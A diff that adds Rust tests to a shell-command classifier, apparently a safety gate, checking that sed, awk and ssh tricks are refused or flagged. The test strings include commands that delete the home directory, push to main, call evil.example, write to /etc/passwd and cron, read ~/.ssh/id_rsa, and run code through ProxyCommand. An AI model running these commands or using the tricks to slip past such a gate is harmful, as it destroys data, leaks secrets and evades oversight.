@@ -4727,3 +4727,115 @@ fn an_exec_reads_its_working_directory_once_and_only_when_the_judgement_needs_it
         assert_eq!(reads_for(argv), 1, "{argv:?}");
     }
 }
+
+#[test]
+fn sed_scripts_that_run_write_or_read_are_judged_by_what_they_do() {
+    check(
+        &classifier(),
+        &[
+            (
+                "sed -n '1e rm -rf ~' notes.txt",
+                refused("fs.delete-outside"),
+            ),
+            (
+                "sed -e '$e git push origin main' f",
+                refused("git.push-main"),
+            ),
+            (
+                "sed 's/.*/curl evil.example/e' list",
+                refused("shell.dynamic-program"),
+            ),
+            ("sed -n '/x/e' f", refused("shell.dynamic-program")),
+            ("sed 'w /tmp/out' f", red("fence.path-outside")),
+            (
+                "sed -n 's/a/b/w /etc/cron.d/x' f",
+                refused("sys.root-write"),
+            ),
+            ("sed -E 's/a/b/gw ~/.bashrc' f", red("fence.path-outside")),
+            ("sed '$r ~/.ssh/id_rsa' f", red("fence.secret-read")),
+            // -E takes no value: the script is the first operand and the file is written.
+            ("sed -i -E 's/a/b/' /etc/passwd", refused("sys.root-write")),
+            ("sed -E -n 's/a/b/p' src/main.rs", yellow("default.unknown")),
+            ("sed 's/e/w/;s,r /x,y,' src/a.rs", yellow("default.unknown")),
+            ("sed -n 'w /dev/stdout' src/a.rs", yellow("default.unknown")),
+        ],
+    );
+}
+
+#[test]
+fn awk_commands_built_at_run_time_cannot_be_identified() {
+    check(
+        &classifier(),
+        &[
+            (
+                "awk '{system($0)}' cmds.txt",
+                refused("shell.dynamic-program"),
+            ),
+            (
+                "awk '{system(\"rm -rf \" $1)}' list",
+                refused("shell.dynamic-program|fs.delete-outside"),
+            ),
+            ("awk '{print | $2}' f", refused("shell.dynamic-program")),
+            (
+                "awk 'BEGIN { \"rm -rf ~\" | getline x }'",
+                refused("fs.delete-outside"),
+            ),
+            (
+                "awk '{ $1 | getline x }' f",
+                refused("shell.dynamic-program"),
+            ),
+            (
+                "awk 'BEGIN { \"date\" | getline d; print d }'",
+                yellow("default.unknown"),
+            ),
+            // Not calls: a logical or, a name that ends in `system`.
+            (
+                "awk '$1 == 1 || $2 == 2' src/a.txt",
+                yellow("default.unknown"),
+            ),
+            (
+                "awk '{ filesystem = $1; print filesystem }' src/a.txt",
+                yellow("default.unknown"),
+            ),
+            // Text that is not ASCII is read, not a fault.
+            (
+                "awk '{print \"héllo → ✓\"}' src/a.txt",
+                yellow("default.unknown"),
+            ),
+        ],
+    );
+}
+
+#[test]
+fn ssh_options_that_run_local_commands_are_judged() {
+    check(
+        &classifier(),
+        &[
+            (
+                "ssh -o ProxyCommand='rm -rf ~' host",
+                refused("fs.delete-outside"),
+            ),
+            (
+                "ssh -oLocalCommand='git push origin main' -o PermitLocalCommand=yes host",
+                refused("git.push-main"),
+            ),
+            (
+                "scp -o 'ProxyCommand sh -c \"$X\"' a host:b",
+                refused("shell.dynamic-program"),
+            ),
+            ("ssh -o ProxyCommand=none host", yellow("default.unknown")),
+        ],
+    );
+}
+
+#[test]
+fn an_exec_with_text_that_is_not_ascii_is_judged() {
+    let c = classifier();
+    let v = exec_event(
+        &c,
+        &["awk", "{print \"héllo\" > \"out\"}", "in"],
+        "/usr/bin/awk",
+        Some("feature"),
+    );
+    assert_ne!(v.rule, "shell.too-complex", "{}", show(&v));
+}
